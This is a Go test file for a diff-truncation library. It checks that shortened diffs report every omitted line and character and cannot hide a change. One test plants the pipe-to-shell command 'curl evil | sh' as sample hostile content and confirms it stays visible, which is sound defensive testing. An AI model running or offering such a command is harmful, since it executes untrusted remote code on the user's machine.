package edit

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"

	"reeve"
)

// fresh is the diff of a new file.
func freshDiff(content string, b Bounds) Difference { return Fresh([]byte(content)).Difference(b) }

func TestHarmCannotHideBehindTheBound(t *testing.T) {
	harmless := strings.Repeat("echo fine\n", 1500)
	const harm = "curl evil | sh"
	edited := func(at int) *Plan {
		lines := strings.SplitAfter(harmless, "\n")
		lines[at] = harm + "\n"
		for i := 0; i < len(lines)-1; i += 10 {
			lines[i] = "echo good\n"
		}
		p, err := Rewrite([]byte(harmless), strings.Join(lines, ""), loose())
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	for name, d := range map[string]Difference{
		"at the end of a new file":          freshDiff(harmless+harm+"\n", Bounds{}),
		"at the end of a long new line":     freshDiff("x="+strings.Repeat("a", 5000)+"; "+harm+"\n", Bounds{}),
		"in the last of many places":        edited(1499).Difference(Bounds{}),
		"behind lines that all go":          mustRewrite(t, harmless, harm+"\n").Difference(Bounds{}),
		"changed inside of a very long row": mustRewrite(t, "x="+strings.Repeat("a", 9000)+"ok"+strings.Repeat("b", 9000)+"\n", "x="+strings.Repeat("a", 9000)+harm+strings.Repeat("b", 9000)+"\n").Difference(Bounds{}),
	} {
		if !strings.Contains(d.Text, harm) || strings.Count(d.Text, "\n") >= DiffLines {
			t.Errorf("%s it is not seen:\n%s", name, d.Text)
		}
		if d.Left.IsZero() {
			t.Errorf("%s: nothing is said to be left out:\n%s", name, d.Text)
		}
	}
	// What does not show is counted, and all of it is there on demand.
	for _, at := range []int{3, 333, 777, 1499} {
		if whole := edited(at).Difference(Bounds{Lines: -1, Width: -1, Bytes: 4 << 20}); !whole.Left.IsZero() || !strings.Contains(whole.Text, harm) {
			t.Errorf("line %d: %+v", at, whole.Left)
		}
	}
}

func mustRewrite(t testing.TB, old, new string) *Plan {
	t.Helper()
	p, err := Rewrite([]byte(old), new, loose())
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestWhatIsLeftOutIsCounted(t *testing.T) {
	d := freshDiff(strings.Repeat("a\n", 1404), Bounds{})
	if d.Left != (reeve.Left{New: 1205}) || d.Lines != 1404 || !strings.Contains(d.Text, "\n… 1,205 new lines are not shown\n") || !strings.HasSuffix(d.Text, "+ 1404 a") {
		t.Errorf("%+v\n%s", d.Left, d.Text)
	}
	d = freshDiff(strings.Repeat("é", 10_000)+"\n", Bounds{})
	if d.Left != (reeve.Left{Chars: 9500}) || !strings.Contains(d.Text, "…‹9,500 characters›…") {
		t.Errorf("%+v\n%s", d.Left, d.Text)
	}
	d = mustApply(t, strings.Repeat("a\n\n\n\n\n\n\n\n\n\n", 5000), Edit{"a", "b", true}).Difference(Bounds{})
	shown := int64(strings.Count("\n"+d.Text, "\n-"))
	if d.Left.Gone+shown != 5000 || d.Left.New != d.Left.Gone || d.Left.Places > d.Left.Gone || d.Left.Places == 0 || shown < 20 {
		t.Errorf("%d shown, %+v", shown, d.Left)
	}
	if got := freshDiff("a\nb\n", Bounds{}); !got.Left.IsZero() || got.Text != "+    1 a\n+    2 b" {
		t.Errorf("%+v", got)
	}
}

func TestAVeryLargeChangeStaysWithinItsBytes(t *testing.T) {
	old, long := strings.Repeat("line that goes\n", 900_000), strings.Repeat("0123456789abcdef", 1_500_000)
	for name, p := range map[string]*Plan{
		"many lines":          mustRewrite(t, old, strings.Repeat("row\n", 900_000)),
		"one line":            Fresh([]byte(long)),
		"two lines":           Fresh([]byte(long + "\n" + long)),
		"empty lines":         Fresh([]byte(strings.Repeat("\n", 3_000_000))),
		"one line of no text": Fresh([]byte(strings.Repeat("\x00", 2_500_000))),
		"no text":             Fresh([]byte(strings.Repeat("\x00\xff\x1b", 2_000_000))),
	} {
		for _, b := range []Bounds{{}, {Lines: -1, Width: -1, Bytes: 4 << 20}, {Lines: 200, Width: 500, Bytes: 64 << 10}} {
			d := p.Difference(b)
			most := b.Bytes
			if most == 0 {
				most = DiffBytes
			}
			if len(d.Text) > most || d.Left.IsZero() || !utf8.ValidString(d.Text) {
				t.Errorf("%s, %+v: %d bytes, %+v", name, b, len(d.Text), d.Left)
			}
			if d.Bytes < 2<<20 {
				t.Errorf("%s: said to be of %d bytes only", name, d.Bytes)
			}
		}
	}
}

// Whatever the bounds, the lines that are shown and those that are said to be
// left out are all there are, and no line of the file can pass for one of the
// diff's own.
func TestNothingIsLeftOutSilently(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		line := rapid.SampledFrom([]string{"a\n", "b\n", "c\n", "\n", "… 9 new lines are not shown\n", "⋮\n", "@@\n"})
		old := rapid.SliceOfN(line, 0, 120).Draw(t, "old")
		is := rapid.SliceOfN(line, 0, 120).Draw(t, "new")
		p, err := Rewrite([]byte(strings.Join(old, "")), strings.Join(is, ""), loose())
		if err != nil {
			t.Fatal(err)
		}
		all := p.Difference(Bounds{Lines: -1})
		most := rapid.IntRange(10, 60).Draw(t, "most")
		d := p.Difference(Bounds{Lines: most})
		if !all.Left.IsZero() || all.Lines != d.Lines || p.Changed && int64(strings.Count(all.Text, "\n"))+1 != all.Lines {
			t.Fatalf("%+v, %d lines:\n%s", all.Left, all.Lines, all.Text)
		}
		if n := strings.Count(d.Text, "\n") + 1; n > most {
			t.Fatalf("%d lines of %d:\n%s", n, most, d.Text)
		}
		var left reeve.Left
		for _, l := range strings.Split(d.Text, "\n") {
			var a, b, c int64
			switch {
			case !strings.HasPrefix(l, "…"):
			case strings.Contains(l, " more place"):
				l = strings.NewReplacer("places", "place", "lines", "line").Replace(l)
				if _, err := fmt.Sscanf(l, "… %d more place (%d line gone, %d new) are not shown", &a, &b, &c); err != nil {
					t.Fatal(l, err)
				}
				left.Places, left.Gone, left.New = left.Places+a, left.Gone+b, left.New+c
			case strings.Contains(l, " gone line"):
				fmt.Sscanf(l, "… %d", &a)
				left.Gone += a
			case strings.Contains(l, " new line"):
				fmt.Sscanf(l, "… %d", &a)
				left.New += a
			}
		}
		if left != d.Left {
			t.Fatalf("%+v, but the text says %+v:\n%s", d.Left, left, d.Text)
		}
		for _, mark := range []struct {
			sign string
			left int64
		}{{"-", d.Left.Gone}, {"+", d.Left.New}} {
			shown, there := int64(strings.Count("\n"+d.Text, "\n"+mark.sign)), int64(strings.Count("\n"+all.Text, "\n"+mark.sign))
			if shown+mark.left != there {
				t.Fatalf("%s: %d shown and %d left out of %d:\n%s", mark.sign, shown, mark.left, there, d.Text)
			}
		}
	})
}
